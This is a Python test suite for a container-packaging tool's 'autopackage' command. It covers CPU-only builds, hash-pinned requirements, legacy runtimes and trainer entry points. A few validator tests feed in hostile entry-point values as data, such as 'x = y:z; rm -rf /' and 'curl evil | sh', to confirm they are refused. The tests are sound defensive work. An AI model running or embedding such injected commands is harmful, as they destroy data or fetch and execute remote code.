"""autopackage and what a trainer declares beyond its requirement names: CPU-only framework builds, hash-pinned
requirements, its own package (entry points, package data), and the frameworks of a legacy runtimeVersion."""

from __future__ import annotations

import json

import pytest

from conftest import REPO, run_cli

LEGACY = REPO / "tests" / "data" / "legacy"


def dry(root, *args: str) -> dict:
    proc = run_cli("autopackage", str(root), "--dry-run", "--json", "--target", "local", *args)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


def refused(root, *args: str) -> str:
    proc = run_cli("autopackage", str(root), "--dry-run", "--target", "local", *args)
    assert proc.returncode == 2, (proc.returncode, proc.stdout, proc.stderr)
    assert "Traceback" not in proc.stderr
    return proc.stderr


# ---------------------------------------------------------------------------------------------
# CPU-only framework builds (base_images/cpu_builds.yaml)


@pytest.mark.parametrize("requirements,code,framework,index", [
    ("tensorflow-cpu==2.15.1\n", "import tensorflow as tf\n", "tensorflow==2.15.1", None),
    ("--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.5.1+cpu\n", "import torch\n", "torch==2.5.1",
     "https://download.pytorch.org/whl/cpu"),
    ("-f https://download.pytorch.org/whl/cpu/torch_stable.html\ntorch==2.0.1\n", "import torch\n", "torch==2.0.1",
     "https://download.pytorch.org/whl/cpu"),
    ("jax[cpu]==0.4.30\n", "import jax\n", "jax==0.4.30", None),
])
def test_a_cpu_only_framework_build_gets_a_cpu_image(project, requirements, code, framework, index):
    root = project({"train.py": code, "requirements.txt": requirements})
    out = dry(root)
    assert out["inferred"]["config_keys"]["gpu"] is False
    assert out["plan"]["gpu"] is False and out["plan"]["base_kind"] == "cpu", out["plan"]
    assert not out["plan"]["base_image"].startswith("nvidia/cuda")
    assert out["plan"]["framework"]["requirement"] == framework and out["plan"]["framework"]["index_url"] == index
    assert any("built for CPU" in n and "requirements.txt:" in n for n in out["inferred"]["notes"])


@pytest.mark.parametrize("requirements,code", [
    ("tensorflow==2.15.1\n", "import tensorflow\n"),
    ("torch==2.5.1\n", "import torch\n"),
    ("jax[cuda12]==0.4.30\n", "import jax\n"),
    ("--extra-index-url https://download.pytorch.org/whl/cpuX\ntorch==2.5.1\n", "import torch\n"),  # not the CPU index
    ("torch==2.5.1\ntensorflow-cpu==2.15.1\n", "import torch\n"),  # the CPU build of a helper beside torch
])
def test_gpu_builds_stay_gpu_images(project, requirements, code):
    out = dry(project({"train.py": code, "requirements.txt": requirements}))
    assert out["plan"]["gpu"] is True and "gpu" not in out["inferred"]["config_keys"], out["inferred"]


@pytest.mark.parametrize("args,said", [
    (("--gpu",), "gpu: true (--gpu)"),
    (("--accelerator", "NVIDIA_TESLA_T4"), "accelerator NVIDIA_TESLA_T4 (--accelerator)"),
])
def test_a_gpu_asked_for_beside_a_cpu_only_build_is_refused_naming_both(project, args, said):
    root = project({"train.py": "import tensorflow\n", "requirements.txt": "tensorflow-cpu==2.15.1\n"})
    err = refused(root, *args)
    assert "requirements.txt:1: tensorflow-cpu is the CPU-only build of tensorflow" in err and said in err, err
    assert "declare tensorflow itself" in err


def test_a_config_gpu_true_beside_a_cpu_only_build_is_refused(project):
    root = project({"train.py": "import jax\n", "requirements.txt": "jax[cpu]==0.4.30\n", "buildkit.yaml": "gpu: true\n"})
    assert "buildkit.yaml" in refused(root) and "jax[cpu]" in refused(root)


def test_a_legacy_gpu_job_beside_a_cpu_only_build_is_refused_and_no_gpu_builds_for_cpu(project):
    root = project({"trainer/__init__.py": "", "trainer/task.py": "import tensorflow\n",
                    "requirements.txt": "tensorflow-cpu==2.11.0\n"})
    legacy = str(LEGACY / "config_runtime_2_11.yaml")  # its master has an NVIDIA_TESLA_T4
    err = refused(root, "--from-aiplatform", legacy)
    assert "the legacy job's NVIDIA_TESLA_T4 x1" in err, err
    out = dry(root, "--from-aiplatform", legacy, "--no-gpu")  # the flag decides, as over the legacy file elsewhere
    assert out["plan"]["gpu"] is False


@pytest.mark.parametrize("line", [
    "torch==2.5.1+cpu.cxx11.abi",  # a CPU build's longer local label
    "torch===2.5.1+cpu",  # arbitrary equality
    "torch==2.5.*",  # a wildcard: no local label
    "torch>=2.4,<2.6",
    "torch==2.5.1+cu121",  # a CUDA build: stays a GPU image
    "jax[cpu,cuda12]==0.4.30",
    "tensorflow-cpu",  # unpinned
])
def test_odd_framework_lines_end_in_an_image_or_a_clear_refusal(project, line):
    code = "import jax\n" if line.startswith("jax") else "import tensorflow\n" if "tensorflow" in line else "import torch\n"
    root = project({"train.py": code, "requirements.txt": line + "\n"})
    proc = run_cli("autopackage", str(root), "--dry-run", "--json", "--target", "local")
    assert "Traceback" not in proc.stderr, proc.stderr
    assert proc.returncode in (0, 2), proc.stderr
    if proc.returncode == 0:
        plan = json.loads(proc.stdout)["plan"]
        cpu = "+cpu" in line or "[cpu" in line or "tensorflow-cpu" in line
        assert plan["gpu"] is (not cpu), (line, plan)


# ---------------------------------------------------------------------------------------------
# Hash-pinned requirements

SIX_WHEEL_SHA256 = "8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254"  # six-1.16.0-py2.py3-none-any.whl


@pytest.mark.parametrize("requirements,where", [
    (f"-e .\nsix==1.16.0 --hash=sha256:{SIX_WHEEL_SHA256}\n", "requirements.txt:2"),
    (f".\nsix==1.16.0 \\\n    --hash=sha256:{SIX_WHEEL_SHA256}\n", "requirements.txt:2"),
    ("-e .\n--require-hashes\nsix==1.16.0\n", "requirements.txt:2"),
])
def test_hash_pinned_lines_beside_install_self_are_refused_naming_the_line(project, requirements, where):
    root = project({"train.py": "import six\n", "requirements.txt": requirements,
                    "setup.py": "from setuptools import setup\nsetup(name='t', version='1', install_requires=['pyyaml'])\n"})
    err = refused(root)
    assert f"{where}: the line asks for hash checking" in err and "carry no hashes" in err, err


def test_hash_pinned_lines_in_an_included_file_are_refused_naming_that_file(project):
    root = project({"train.py": "import six\n", "requirements.txt": "-r locked.txt\n",
                    "locked.txt": f"six==1.16.0 --hash=sha256:{SIX_WHEEL_SHA256}\n"})
    assert "locked.txt:1: the line asks for hash checking" in refused(root)


def test_a_hash_pinned_file_installed_as_it_is_reinstalls_what_it_names(project):
    root = project({"train.py": "import six\n", "requirements.txt": f"six==1.16.0 --hash=sha256:{SIX_WHEEL_SHA256}\n"})
    out = dry(root)
    assert out["inferred"]["config_keys"]["requirements"] == "requirements.txt" and out["plan"]["requirements_hashed"]
    (root / "buildkit.yaml").write_text("trainer:\n  script: train.py\nrequirements: requirements.txt\n")
    dockerfile = run_cli("dockerfile", "--dir", str(root))
    assert dockerfile.returncode == 0, dockerfile.stderr
    assert "uv pip install --reinstall -r /tmp/buildkit-py/requirements.txt" in dockerfile.stdout
    (root / "requirements.txt").write_text("six==1.16.0  # --hash in a comment is no hash\n")
    plain = run_cli("dockerfile", "--dir", str(root))
    assert "--reinstall" not in plain.stdout and "pins hashes" not in plain.stdout


def test_the_image_checks_the_hashes_of_packages_an_earlier_step_installed(testenv, project, tmp_path):
    """six is installed first by the config's pip entries (no hash); the requirements file pins it with a hash: a wrong
    hash fails the build with uv's own message, the right one builds an image that imports it."""
    bad = "0" * 64
    root = project({"train.py": "import six\nprint('SIX', six.__version__)\n", "buildkit.yaml": "pip: [six==1.16.0]\n",
                    "requirements.txt": f"six==1.16.0 --hash=sha256:{bad}\n"})
    registry = testenv["BUILDKIT_TEST_REGISTRY"]
    env = {**testenv, "BUILDKIT_PY_DOCKER": testenv["BUILDKIT_DOCKER"], "XDG_CACHE_HOME": str(tmp_path / "cache")}
    proc = run_cli("autopackage", str(root), "--image", f"{registry}/autopkg-hashes/trainer", "--progress", "plain",
                   env=env)
    assert proc.returncode != 0 and "Traceback" not in proc.stderr
    assert bad in proc.stderr and SIX_WHEEL_SHA256 in proc.stderr, proc.stderr[-3000:]  # expected vs computed
    (root / "requirements.txt").write_text(f"six==1.16.0 --hash=sha256:{SIX_WHEEL_SHA256}\n")
    proc = run_cli("autopackage", str(root), "--image", f"{registry}/autopkg-hashes/trainer", "--json", env=env)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert json.loads(proc.stdout)["run"]["exit_code"] == 0 and "SIX 1.16.0" in proc.stderr


# ---------------------------------------------------------------------------------------------
# The other frameworks of a legacy runtimeVersion (base_images/aiplatform_runtimes.yaml)


def legacy(root, runtime: str) -> str:
    path = root / "config.yaml"
    path.write_text(f"trainingInput:\n  scaleTier: BASIC\n  runtimeVersion: '{runtime}'\n  pythonVersion: '3.7'\n"
                    "  pythonModule: trainer.task\n")
    return str(path)


def test_a_scikit_learn_trainer_on_runtime_2_1_gets_the_scikit_learn_it_ran(project):
    root = project({"trainer/__init__.py": "", "trainer/task.py": "from sklearn import svm\n"})
    out = dry(root, "--from-aiplatform", legacy(root, "2.1"))
    assert out["plan"]["framework"]["requirement"] == "scikit-learn==0.22.1", out["plan"]["framework"]
    assert out["plan"]["python"]["version"] == "3.8" and out["plan"]["gpu"] is False
    assert any("runtimeVersion 2.1 ran scikit-learn==0.22.1" in n for n in out["inferred"]["notes"])
    (root / "requirements.txt").write_text("scikit-learn==1.0.2\n")  # the trainer's own pin wins
    assert dry(root, "--from-aiplatform", legacy(root, "2.1"))["plan"]["framework"]["requirement"] == "scikit-learn==1.0.2"


def test_scikit_learn_beside_xgboost_on_runtime_2_1_is_pinned_with_a_python_both_have(project):
    root = project({"trainer/__init__.py": "", "trainer/task.py": "import sklearn\nimport xgboost\n"})
    out = dry(root, "--from-aiplatform", legacy(root, "2.1"))
    inferred = out["inferred"]
    assert inferred["pip"] == ["scikit-learn==0.22.1"] and inferred["config_keys"]["python"] == "3.8", inferred
    fw = out["plan"]["framework"]
    assert fw["name"] == "xgboost" and out["plan"]["python"]["version"] == "3.8", fw  # a release that has 3.8 wheels
    # A Python the runtime's release has no wheels for: the import stays unpinned, and the note says why.
    out = dry(root, "--from-aiplatform", legacy(root, "2.1"), "--python", "3.11")
    assert out["inferred"]["pip"] == ["scikit-learn"] and out["plan"]["python"]["version"] == "3.11"
    assert any("scikit-learn==0.22.1, which has no wheels for Python 3.11" in n for n in out["inferred"]["notes"])


def test_a_runtime_that_records_no_release_of_an_import_says_so(project):
    root = project({"trainer/__init__.py": "", "trainer/task.py": "import xgboost\nimport sklearn\n"})
    notes = dry(root, "--from-aiplatform", legacy(root, "2.5"))["inferred"]["notes"]
    for name in ("scikit-learn", "xgboost"):
        assert any(f"runtimeVersion 2.5 shipped {name}: which {name} release it had is not recorded" in n
                   for n in notes), notes


def test_an_unpinned_framework_with_a_python_gets_its_newest_release_for_that_python(project):
    root = project({"train.py": "import xgboost\n"})
    out = dry(root, "--python", "3.8")
    assert out["inferred"]["framework"] == out["plan"]["framework"]["requirement"], out["inferred"]
    assert out["plan"]["python"]["version"] == "3.8"
    assert dry(root)["inferred"]["framework"] == "xgboost"  # no Python given: the plan resolves it


# ---------------------------------------------------------------------------------------------
# The trainer's own distribution: its metadata installed before the code layer (trainer_package)

SETUP_PY = ("from setuptools import find_packages, setup\n\nREQUIRED_PACKAGES = ['six==1.16.0']\n\n"
            "setup(name='census-trainer', version='0.3.1', packages=find_packages(), install_requires=REQUIRED_PACKAGES,\n"
            "      package_data={'trainer': ['vocab.txt']},\n"
            "      entry_points={'console_scripts': ['census-train = trainer.task:main']})\n")
TASK = ("import importlib.resources\nimport six\nfrom importlib.metadata import entry_points, version\n\n\n"
        "def main():\n    print('SCRIPT RAN', version('census-trainer'))\n\n\n"
        "if __name__ == '__main__':\n"
        "    vocab = importlib.resources.files('trainer').joinpath('vocab.txt').read_text().strip()\n"
        "    scripts = [e.name for e in entry_points(group='console_scripts') if e.value.startswith('trainer.')]\n"
        "    print('VERSION', version('census-trainer'), 'VOCAB', vocab, 'SCRIPTS', scripts, 'SIX', six.__version__)\n")


@pytest.mark.parametrize("files,entry_points", [
    ({"setup.py": SETUP_PY}, {"console_scripts": ["census-train = trainer.task:main"]}),
    ({"setup.cfg": "[metadata]\nname = census-trainer\nversion = 0.3.1\n[options]\ninstall_requires =\n  six==1.16.0\n"
                   "[options.entry_points]\nconsole_scripts =\n  census-train = trainer.task:main\n",
      "setup.py": "from setuptools import setup\nsetup()\n"}, {"console_scripts": ["census-train = trainer.task:main"]}),
    ({"pyproject.toml": '[project]\nname = "census-trainer"\nversion = "0.3.1"\ndependencies = ["six==1.16.0"]\n'
                        '[project.scripts]\ncensus-train = "trainer.task:main"\n'
                        '[project.entry-points."census.plugins"]\nbasic = "trainer.task"\n'},
     {"console_scripts": ["census-train = trainer.task:main"], "census.plugins": ["basic = trainer.task"]}),
])
def test_a_package_trainer_gets_its_metadata_and_entry_points_from_each_layout(project, files, entry_points):
    root = project({"trainer/__init__.py": "", "trainer/task.py": TASK, **files})
    inferred = dry(root)["inferred"]
    assert inferred["config_keys"]["trainer_package"] == {"name": "census-trainer", "version": "0.3.1",
                                                          "entry_points": entry_points}, inferred
    assert inferred["pip"] == ["six==1.16.0"]
    assert any("is installed before the code layer" in n for n in inferred["notes"])


def test_entry_points_as_setuptools_ini_text(project):
    root = project({"trainer/__init__.py": "", "trainer/task.py": "",
                    "setup.py": "from setuptools import setup\nENTRY = '''\n[console_scripts]\nfit = trainer.task:main\n"
                                "[census.plugins]\nbasic = trainer.task\n'''\n"
                                "setup(name='t', version='2.0', install_requires=[], entry_points=ENTRY)\n"})
    assert dry(root)["inferred"]["config_keys"]["trainer_package"]["entry_points"] == {
        "console_scripts": ["fit = trainer.task:main"], "census.plugins": ["basic = trainer.task"]}


def test_a_computed_version_is_said_and_nothing_of_the_package_is_installed(project):
    root = project({"trainer/__init__.py": "__version__ = '1.0'\n", "trainer/task.py": "print(1)\n",
                    "setup.py": "from setuptools import setup\nfrom trainer import __version__\n"
                                "setup(name='t', version=__version__, install_requires=['six'])\n"})
    inferred = dry(root)["inferred"]
    assert "trainer_package" not in inferred["config_keys"]
    assert any("its version are computed by its build and were not read" in n for n in inferred["notes"]), inferred


def test_the_metadata_layer_sits_below_the_code_layer_the_fast_path_replaces(project):
    from buildkit_py.pipeline.fastpath import code_step

    root = project({"trainer/__init__.py": "", "trainer/task.py": TASK, "setup.py": SETUP_PY,
                    "buildkit.yaml": "trainer:\n  module: trainer.task\ntrainer_package: {name: census-trainer, "
                                     "version: 0.3.1, entry_points: {console_scripts: ['census-train = trainer.task:main']}}\n"})
    proc = run_cli("dockerfile", "--dir", str(root))
    assert proc.returncode == 0, proc.stderr
    text = proc.stdout
    assert text.index("buildkit_launcher.distinfo") < text.index("COPY . /app")
    assert code_step(text).instruction == "COPY . /app"


@pytest.mark.parametrize("value,fragment", [
    ("trainer_package: census\n", "must be a mapping"),
    ("trainer_package: {name: t}\n", "needs its version"),
    ("trainer_package: {version: '1'}\n", "needs its name"),
    ("trainer_package: {name: 't t', version: '1'}\n", "not a valid distribution name"),
    ("trainer_package: {name: t, version: 'one'}\n", "not a PEP 440 version"),
    ("trainer_package: {name: t, version: '1', extra: 1}\n", "extra"),
    ("trainer_package: {name: t, version: '1', entry_points: [a]}\n", "must be a mapping of at most"),
    ("trainer_package: {name: t, version: '1', entry_points: {'a b': []}}\n", "not an entry point group name"),
    ("trainer_package: {name: t, version: '1', entry_points: {g: 'x = y:z'}}\n", "must be a list"),
    ("trainer_package: {name: t, version: '1', entry_points: {g: ['x = y:z; rm -rf /']}}\n", "is not an entry point"),
    ("trainer_package: {name: t, version: '1', entry_points: {g: [\"x = y:z'\"]}}\n", "is not an entry point"),
    ("trainer_package: {name: t, version: '1', entry_points: {console_scripts: ['../x = y:z']}}\n", "is not an entry point"),
    ("trainer_package: {name: t, version: '1', entry_points: {console_scripts: ['x = y']}}\n", "is not a script"),
    ("trainer_package: {name: t, version: '1', entry_points: {g: ['x = y:z\\u2028']}}\n", "trainer_package"),
    ("trainer_package: {name: t, version: '1', entry_points: {g: ['" + "x" * 600 + " = y:z']}}\n", "trainer_package"),
    ("trainer_package: {name: t, version: '1', entry_points: {g: " + str(["a = b:c"] * 201) + "}}\n", "at most 200"),
])
def test_hostile_trainer_package_values_exit_2_naming_the_field(project, value, fragment):
    root = project({"trainer/__init__.py": "", "trainer/task.py": "", "buildkit.yaml": "trainer:\n  module: trainer.task\n"
                    + value})
    proc = run_cli("dockerfile", "--dir", str(root))
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
    assert "trainer_package" in proc.stderr and fragment in proc.stderr, proc.stderr


def test_hostile_entry_points_in_setup_py_are_refused_naming_the_field(project):
    root = project({"trainer/__init__.py": "", "trainer/task.py": "",
                    "setup.py": "from setuptools import setup\nsetup(name='t', version='1', install_requires=[],\n"
                                "      entry_points={'console_scripts': ['x = y:z; curl evil | sh']})\n"})
    err = refused(root)
    assert "trainer_package" in err and "is not an entry point" in err, err


def test_the_image_has_the_trainers_metadata_scripts_and_package_data(testenv, project, tmp_path):
    """gcloud's `pip install .` on the real engine: importlib.metadata finds the package, its console script runs,
    its package data is beside its code, `python -m trainer.task` runs the copied code."""
    root = project({"trainer/__init__.py": "", "trainer/task.py": TASK, "trainer/vocab.txt": "words\n",
                    "setup.py": SETUP_PY})
    registry = testenv["BUILDKIT_TEST_REGISTRY"]
    env = {**testenv, "BUILDKIT_PY_DOCKER": testenv["BUILDKIT_DOCKER"], "XDG_CACHE_HOME": str(tmp_path / "cache")}
    proc = run_cli("autopackage", str(root), "--image", f"{registry}/autopkg-own/trainer", "--json", env=env)
    assert proc.returncode == 0, proc.stderr[-3000:]
    out = json.loads(proc.stdout)
    assert out["run"]["exit_code"] == 0
    assert "VERSION 0.3.1 VOCAB words SCRIPTS ['census-train'] SIX 1.16.0" in proc.stderr, proc.stderr[-2000:]
    import subprocess

    script = subprocess.run([testenv["BUILDKIT_DOCKER"], "run", "--rm", "--network", "none", "--entrypoint",
                             "census-train", out["image"]], capture_output=True, text=True,
                            env={"DOCKER_HOST": testenv["DOCKER_HOST"]}, timeout=120)
    assert script.returncode == 0 and "SCRIPT RAN 0.3.1" in script.stdout, script.stderr
